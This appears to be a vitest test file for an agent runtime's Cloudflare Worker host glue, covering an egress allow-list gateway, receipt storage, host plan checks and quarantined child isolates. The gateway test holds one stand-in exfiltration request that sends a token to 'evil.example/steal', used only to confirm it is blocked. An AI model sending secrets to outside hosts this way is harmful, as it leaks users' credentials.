/**
 * The Worker host glue on its own (no workerd): the egress gateway, the receipt sink, the host
 * plan checks and the bindings the loader hands out, the loader's isolate service (which refuses
 * code the plan does not pin), the parent side and the child side of a quarantined run, and the
 * glue's portability (it bundles for the neutral platform with nothing external).
 */
import { build } from 'esbuild';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { TEST_KEY, baseConfig, toolOnlyConfig } from '../../runtime/__test-support__/configs';
import type { Receipt } from '../../runtime/receipts';
import { generateReceiptKeyPair, verifyReceipt } from '../../runtime/receipts';
import { signedReceipts } from '../../runtime/run-receipt';
import type { AgentModule, IsolateSpec, WorkerCode } from './index';
import {
  cappedConfig,
  childRunner,
  codeDigest,
  createLogLines,
  egressAllows,
  gatewayFetch,
  handleIsolateRun,
  hostPlanProblem,
  isolateId,
  loadedEnv,
  nodeDeps,
  receiptKey,
  receiptSinkFrom,
  runIsolate,
  runtimeLog,
  runtimeLogAfterResponse,
  runPlannedIsolate,
  secretsOf,
  serviceFetch,
} from './index';
import type { HostPlan } from '../../host-contract/worker-host-plan';

const ok = () => Promise.resolve(new Response('upstream'));

describe('the egress gateway', () => {
  it('lets allowed origins through and answers everything else 403, naming the host only', async () => {
    const allow = ['https://api.openai.com', 'http://127.0.0.1:8080'];
    expect(await (await gatewayFetch(new Request('https://api.openai.com/v1/x'), { allow }, ok)).text()).toBe(
      'upstream',
    );
    const blocked = await gatewayFetch(new Request('https://evil.example/steal?token=t0k3n'), { allow }, ok);
    expect(blocked.status).toBe(403);
    expect(blocked.headers.get('x-agentdef-egress')).toBe('blocked');
    const body = await blocked.text();
    expect(body).toContain('evil.example');
    expect(body).not.toContain('t0k3n');
    expect((await gatewayFetch(new Request('https://api.openai.com/'), undefined, ok)).status).toBe(403);
    expect(egressAllows(allow, 'http://127.0.0.1:8081/')).toBe(false);
    expect(egressAllows(allow, 'https://api.openai.com:443/v1')).toBe(true);
    expect(egressAllows(allow, 'http://api.openai.com/')).toBe(false);
    expect(egressAllows(allow, 'not a url')).toBe(false);
  });
});

describe('the receipt sink', () => {
  const receipt = {
    runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
    pinning: { card: 'a', cardVersion: '1.0.0' },
    signature: { value: 'abcdefghijklmnopqrstuvwxyz' },
  } as unknown as Receipt;

  it('writes one KV key per receipt, grouped by run id, or sends one queue message', async () => {
    const puts: [string, string][] = [];
    const kvSink = receiptSinkFrom(
      { R: { put: async (k: string, v: string) => void puts.push([k, v]) } },
      { binding: 'R', kind: 'kv' },
    )!;
    await kvSink.put(receipt);
    expect(puts).toEqual([[receiptKey(receipt), JSON.stringify(receipt)]]);
    expect(receiptKey(receipt)).toBe('receipts/01J9ZZZZZZZZZZZZZZZZZZZZZZ/a@1.0.0/abcdefghijklmnop');
    const sent: unknown[] = [];
    await receiptSinkFrom(
      { Q: { send: async (m: unknown) => void sent.push(m) } },
      { binding: 'Q', kind: 'queue' },
    )!.put(receipt);
    expect(sent).toEqual([receipt]);
    expect(receiptSinkFrom({}, { binding: 'R', kind: 'kv' })).toBeUndefined();
    expect(receiptSinkFrom({ R: {} }, undefined)).toBeUndefined();
  });
});

const plan = (overrides: Partial<HostPlan> = {}): HostPlan => ({
  hostPlanVersion: 'agentdef-host-plan/v1',
  target: 'cloudflare-dynamic-worker',
  agent: { slug: 'a', version: '1.0.0' },
  planDigest: 'd',
  id: 'a@1.0.0:d:c',
  workerCode: {
    compatibilityDate: '2026-07-01',
    compatibilityFlags: [],
    mainModule: 'worker.js',
    modules: { 'worker.js': 'export default {}' },
    env: { PLAIN: 'v' },
  },
  bindings: [
    { name: 'KEY', kind: 'secret-ref', purpose: 'model-key', neededBy: ['a@1.0.0'], loader: 'copy-secret' },
    { name: 'SVC', kind: 'service', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'pass-through' },
    { name: 'CACHE', kind: 'kv', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'kv-proxy' },
    { name: 'DB', kind: 'd1', purpose: 'declared', neededBy: ['a@1.0.0'], loader: 'not-provided' },
    {
      name: 'AGENTDEF_ISOLATES',
      kind: 'service',
      purpose: 'isolates',
      neededBy: ['a@1.0.0'],
      loader: 'isolate-service',
    },
  ],
  egress: { globalOutbound: 'egress-gateway', allow: ['https://api.openai.com'] },
  isolates: [],
  ...overrides,
});

const fakeExports = () => ({
  AgentdefEgress: (o: { props: { allow: string[] } }) => ({ gateway: o.props.allow, fetch: ok }),
  AgentdefIsolates: () => 'isolate-service',
  AgentdefKv: (o: { props: { binding: string } }) => `kv-proxy:${o.props.binding}`,
  AgentdefQueue: (o: { props: { binding: string } }) => `queue-proxy:${o.props.binding}`,
});

describe('the loader side', () => {
  it('refuses a host plan of another version or target, or without a main module or id', () => {
    expect(hostPlanProblem(plan())).toBeUndefined();
    expect(hostPlanProblem(plan({ target: 'hb3' as never }))).toBe(
      'the host plan is for target "hb3", not cloudflare-dynamic-worker',
    );
    expect(hostPlanProblem({ ...plan(), hostPlanVersion: 'v0' })).toMatch(/version is "v0"/);
    expect(hostPlanProblem(plan({ workerCode: { ...plan().workerCode, mainModule: 'other.js' } }))).toBe(
      'the host plan has no main module',
    );
    expect(hostPlanProblem(plan({ id: '' }))).toBe('the host plan has no id');
    expect(hostPlanProblem(null)).toBe('the host plan is not an object');
  });

  it('hands the loaded Worker exactly the bindings the plan provides', () => {
    const env = { KEY: 'secret-value', SVC: { fetch: ok }, CACHE: {}, DB: {}, OTHER: 'not in the plan' };
    const loaded = loadedEnv(plan(), env, fakeExports() as never);
    expect(loaded).toEqual({
      PLAIN: 'v',
      KEY: 'secret-value',
      SVC: env.SVC,
      CACHE: 'kv-proxy:CACHE',
      AGENTDEF_ISOLATES: 'isolate-service',
    });
    expect(loadedEnv(plan(), { KEY: 42 }, fakeExports() as never)).toEqual({
      PLAIN: 'v',
      AGENTDEF_ISOLATES: 'isolate-service',
    });
  });

  it('starts only the quarantined children the plan names, with the code it pins and the allow-list it gives', async () => {
    const source = 'export default { fetch() { return new Response("{}") } }';
    const digest = await codeDigest(source);
    const loaded: WorkerCode[] = [];
    const env = {
      LOADER: {
        get: (_id: string, code: () => WorkerCode) => ({
          getEntrypoint: () => ({
            fetch: async () => {
              loaded.push(code());
              return new Response('{"result":"ran"}');
            },
          }),
        }),
      },
    };
    const hostPlan = plan({
      isolates: [
        {
          nodeId: 'a@1.0.0/b@1.0.0',
          codeDigest: digest,
          egress: { allow: ['https://x.example'] },
          secrets: ['KEY'],
          cpuMs: 5,
        },
      ],
    });
    const code = (modules: Record<string, string>): WorkerCode => ({
      compatibilityDate: '2026-07-01',
      mainModule: 'isolate.js',
      modules,
      env: { KEY: 'k', SNEAKY: 's' },
    });
    const run = (nodeId: string, modules: Record<string, string>) =>
      runPlannedIsolate(hostPlan, env, fakeExports() as never, {
        nodeId,
        isolateId: 'i',
        code: code(modules),
        payload: '{}',
      });
    expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': source })).toBe('{"result":"ran"}');
    // The host's own isolate service (so a grandchild can start), never a stub sent through RPC.
    expect(loaded[0]).toMatchObject({
      env: { KEY: 'k', AGENTDEF_ISOLATES: 'isolate-service' },
      limits: { cpuMs: 5 },
      globalOutbound: { gateway: ['https://x.example'] },
    });
    expect(loaded[0]!.env).not.toHaveProperty('SNEAKY');
    const withoutService = { ...hostPlan, bindings: hostPlan.bindings.filter((b) => b.loader !== 'isolate-service') };
    expect(
      await runPlannedIsolate(withoutService, env, fakeExports() as never, {
        nodeId: 'a@1.0.0/b@1.0.0',
        isolateId: 'i',
        code: code({ 'isolate.js': source }),
        payload: '{}',
      }),
    ).toBe('{"result":"ran"}');
    expect(loaded[1]!.env).toEqual({ KEY: 'k' });
    loaded.pop();
    expect(await run('a@1.0.0/z@1.0.0', { 'isolate.js': source })).toContain(
      'is not a quarantined child in the host plan',
    );
    expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': `${source};globalThis.x=1` })).toContain(
      'is not the code the host plan pins',
    );
    expect(await run('a@1.0.0/b@1.0.0', { 'isolate.js': source, 'extra.js': '' })).toContain('unexpected modules');
    expect(loaded).toHaveLength(1);
  });
});

const spec = (overrides: Partial<IsolateSpec> = {}): IsolateSpec => ({
  nodeId: 'p@1.0.0/c@1.0.0',
  source: 'export default {}',
  compatibilityDate: '2026-07-01',
  compatibilityFlags: [],
  secrets: ['KEY'],
  egress: [],
  ...overrides,
});

describe('the parent side of a quarantined run', () => {
  const request = {
    input: { text: 'hi' },
    runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
    composedIn: { card: 'p', cardVersion: '1.0.0' },
    remainingMs: 1000,
  };

  it('loads the child through LOADER, fresh per run, with only its secrets and no network when it needs none; delivers its receipts', async () => {
    const seen: { id: string; code: WorkerCode }[] = [];
    const delivered: unknown[] = [];
    const waited: Promise<unknown>[] = [];
    const env = {
      KEY: 'k',
      OTHER_SECRET: 'o',
      LOADER: {
        get: (id: string, code: () => WorkerCode) => {
          seen.push({ id, code: code() });
          return {
            getEntrypoint: () => ({
              fetch: async () =>
                new Response(
                  JSON.stringify({
                    result: { stopReason: 'answer', answer: { text: 'ok' } },
                    receipts: [{ r: 1 }, { r: 2 }],
                  }),
                ),
            }),
          };
        },
      },
    };
    const result = await runIsolate(spec(), request, {
      env,
      waitUntil: (p) => void waited.push(p),
      sink: { put: async (r) => void delivered.push(r) },
    });
    await Promise.all(waited);
    expect(result).toEqual({ stopReason: 'answer', answer: { text: 'ok' } });
    expect(delivered).toEqual([{ r: 1 }, { r: 2 }]);
    expect(seen[0]!.id).toBe(isolateId(await codeDigest('export default {}'), 'p@1.0.0/c@1.0.0', request.runId));
    expect(seen[0]!.id).toMatch(/^[0-9a-f]{32}:p@1\.0\.0\/c@1\.0\.0#01J9Z+$/);
    expect(seen[0]!.code).toMatchObject({
      mainModule: 'isolate.js',
      modules: { 'isolate.js': 'export default {}' },
      env: { KEY: 'k' },
      globalOutbound: null,
    });
    expect(seen[0]!.code.env).not.toHaveProperty('OTHER_SECRET');
  });

  it('gives a child that needs the network the egress gateway, asks the host when it has no loader, and fails without either', async () => {
    const outbound: unknown[] = [];
    const env = {
      LOADER: {
        get: (_id: string, code: () => WorkerCode) => (
          outbound.push(code().globalOutbound),
          { getEntrypoint: () => ({ fetch: async () => new Response('{"result":{"stopReason":"answer"}}') }) }
        ),
      },
    };
    await runIsolate(spec({ egress: ['https://x.example'] }), request, {
      env,
      exports: { AgentdefEgress: (o) => ({ fetch: ok, allow: o.props.allow }) as never },
      waitUntil: () => {},
    });
    expect(outbound).toEqual([{ fetch: ok, allow: ['https://x.example'] }]);
    await expect(
      runIsolate(spec({ egress: ['https://x.example'] }), request, { env, waitUntil: () => {} }),
    ).rejects.toThrow('needs the network but this Worker exports no egress gateway');

    const calls: unknown[] = [];
    const service = { run: async (r: unknown) => (calls.push(r), '{"result":{"stopReason":"answer"}}') };
    expect(
      await runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: service, KEY: 'k' }, waitUntil: () => {} }),
    ).toEqual({ stopReason: 'answer' });
    // The service stub itself is not passed on through RPC (workerd 1.20260426 cannot serialize one); the host adds its own.
    expect(calls).toEqual([
      expect.objectContaining({ nodeId: 'p@1.0.0/c@1.0.0', code: expect.objectContaining({ env: { KEY: 'k' } }) }),
    ]);
    await expect(runIsolate(spec(), request, { env: {}, waitUntil: () => {} })).rejects.toThrow(
      'has no Worker Loader binding (LOADER)',
    );
    await expect(
      runIsolate(spec(), request, { env: { AGENTDEF_ISOLATES: { run: async () => 'not json' } }, waitUntil: () => {} }),
    ).rejects.toThrow('not JSON');
    await expect(
      runIsolate(spec(), request, {
        env: { AGENTDEF_ISOLATES: { run: async () => '{"error":"boom"}' } },
        waitUntil: () => {},
      }),
    ).rejects.toThrow('its isolate failed (boom)');
  });
});

describe('the child side of a quarantined run', () => {
  it('runs the child with the parent run id and a capped wall clock, and answers its result with every receipt', async () => {
    const keys = await generateReceiptKeyPair();
    const config = toolOnlyConfig();
    const agent: AgentModule<Record<string, unknown>> = {
      nodeId: 'p@1.0.0/adder-tool@0.3.0',
      config,
      tools: () => ({ 'calc.add': (args) => ({ sum: Number(args['a']) + Number(args['b']) }) }),
      children: {},
      parts: { receiptSigning: signedReceipts },
    };
    const body = {
      input: { text: '{"a":2,"b":3}' },
      runId: '01J9ZZZZZZZZZZZZZZZZZZZZZZ',
      composedIn: { card: 'p', cardVersion: '1.0.0' },
      remainingMs: 5000,
    };
    const response = await handleIsolateRun(
      new Request('https://isolate.agentdef.invalid/run', { method: 'POST', body: JSON.stringify(body) }),
      agent,
      { env: { RECEIPT_SIGNING_JWK: JSON.stringify(keys.privateJwk) } },
    );
    const reply = (await response.json()) as {
      result: { stopReason: string; answer: { data: unknown }; receipt?: unknown };
      receipts: Receipt[];
    };
    expect(reply.result.stopReason).toBe('answer');
    expect(reply.result.answer.data).toEqual({ sum: 5 });
    expect(reply.result).not.toHaveProperty('receipt');
    expect(reply.receipts).toHaveLength(1);
    expect(reply.receipts[0]).toMatchObject({ runId: body.runId, composedIn: { card: 'p', cardVersion: '1.0.0' } });
    expect(await verifyReceipt(reply.receipts[0], keys.publicJwk)).toBe(true);
    expect((await handleIsolateRun(new Request('https://i/run'), agent, { env: {} })).status).toBe(405);
    expect(
      (
        await handleIsolateRun(new Request('https://i/run', { method: 'POST', body: '{"input":{}}' }), agent, {
          env: {},
        })
      ).status,
    ).toBe(400);
  });

  it('caps the child wall clock by what is left of the parent', () => {
    const config = baseConfig({ limits: { wallClockMs: 10_000 } });
    expect(cappedConfig(config, 2500).limits.wallClockMs).toBe(2500);
    expect(cappedConfig(config, 20_000)).toBe(config);
    expect(cappedConfig(config, 0).limits.wallClockMs).toBe(1);
  });
});

describe('the run dependencies of a compiled agent', () => {
  it('read secrets from env by name, build the tools from env, and add a child runner only for dags', async () => {
    const config = toolOnlyConfig();
    const deps = nodeDeps(
      { nodeId: 'a', config, tools: (env) => ({ t: () => env['X'] }), children: {} },
      { env: { OPENAI_API_KEY: TEST_KEY, X: 'from env', N: 1 }, waitUntil: () => {} },
    );
    expect(deps.runChild).toBeUndefined();
    expect(await (deps.tools!['t'] as () => unknown)()).toBe('from env');
    const secrets = secretsOf({ A: 'a', N: 1 });
    expect([secrets('A'), secrets('N'), secrets('missing')]).toEqual(['a', undefined, undefined]);
    const children = { 'a/b@1.0.0': { kind: 'isolate' as const, isolate: spec() } };
    const withChild = nodeDeps(
      { nodeId: 'a', config, tools: () => ({}), children, runChildren: childRunner },
      { env: {}, waitUntil: () => {} },
    );
    expect(typeof withChild.runChild).toBe('function');
    expect(
      nodeDeps({ nodeId: 'a', config, tools: () => ({}), children }, { env: {}, waitUntil: () => {} }).runChild,
    ).toBeUndefined();
  });

  it('logs one line per run and every problem, nothing else', () => {
    const lines: string[] = [];
    const original = console.log;
    console.log = (line: string) => void lines.push(line);
    try {
      for (const event of ['run.start', 'tool.call', 'run.end', 'egress.blocked', 'model.call'])
        runtimeLog({ event, runId: 'r' });
    } finally {
      console.log = original;
    }
    expect(lines).toEqual(['{"event":"run.end","runId":"r"}', '{"event":"egress.blocked","runId":"r"}']);
  });

  it("writes an isolate's first log line after the response, every line in order", async () => {
    const written: string[] = [];
    const kept: Promise<unknown>[] = [];
    const keepAlive = (promise: Promise<unknown>) => void kept.push(promise);
    const logLine = createLogLines((line) => void written.push(line));
    logLine('first', keepAlive);
    // Not yet: on the next turn of the event loop, the request kept alive until then.
    expect(written).toEqual([]);
    expect(kept).toHaveLength(1);
    logLine('second');
    logLine('third', keepAlive);
    expect(written).toEqual([]);
    expect(kept).toHaveLength(1);
    await kept[0];
    expect(written).toEqual(['first', 'second', 'third']);
    // Once the console is in use, every line is written at once.
    logLine('fourth', keepAlive);
    expect(written).toEqual(['first', 'second', 'third', 'fourth']);
    expect(kept).toHaveLength(1);
  });

  it('writes a first line at once when there is no request to keep alive', () => {
    const written: string[] = [];
    const refused = createLogLines((line) => void written.push(line));
    refused('first', () => {
      throw new Error('no request');
    });
    expect(written).toEqual(['first']);
    const plain = createLogLines((line) => void written.push(line));
    plain('second');
    expect(written).toEqual(['first', 'second']);
  });

  it("logs a request's run events as runtimeLog does", async () => {
    const lines: string[] = [];
    const kept: Promise<unknown>[] = [];
    const original = console.log;
    console.log = (line: string) => void lines.push(line);
    try {
      const log = runtimeLogAfterResponse((promise) => void kept.push(promise));
      for (const event of ['run.start', 'tool.call', 'run.end', 'rpc.internal_error', 'model.call'])
        log({ event, runId: 'q' });
      await Promise.all(kept);
    } finally {
      console.log = original;
    }
    expect(lines).toEqual(['{"event":"run.end","runId":"q"}', '{"event":"rpc.internal_error","runId":"q"}']);
  });

  it('reaches a service binding through serviceFetch, and fails readably when it is missing', async () => {
    const calls: string[] = [];
    const fetchMcp = serviceFetch(
      { 'MCP-X': { fetch: async (input: Request | string) => (calls.push(String(input)), new Response('ok')) } },
      'MCP-X',
    );
    expect(await (await fetchMcp(new URL('https://mcp.example/mcp'))).text()).toBe('ok');
    expect(calls).toEqual(['https://mcp.example/mcp']);
    await expect(serviceFetch({}, 'MCP-X')('https://mcp.example/')).rejects.toThrow(
      'service binding MCP-X is not configured',
    );
  });
});

describe('portability', () => {
  it('bundles for the neutral platform with nothing external and imports no Node built-in', async () => {
    const out = await build({
      entryPoints: [join(__dirname, 'index.ts')],
      bundle: true,
      write: false,
      platform: 'neutral',
      format: 'esm',
      logLevel: 'silent',
      metafile: true,
    });
    const inputs = Object.keys(out.metafile.inputs);
    expect(inputs.some((i) => i.includes('node_modules'))).toBe(false);
    expect(out.outputFiles[0]!.text).not.toMatch(/from\s*["']node:|require\(/);
  });
});
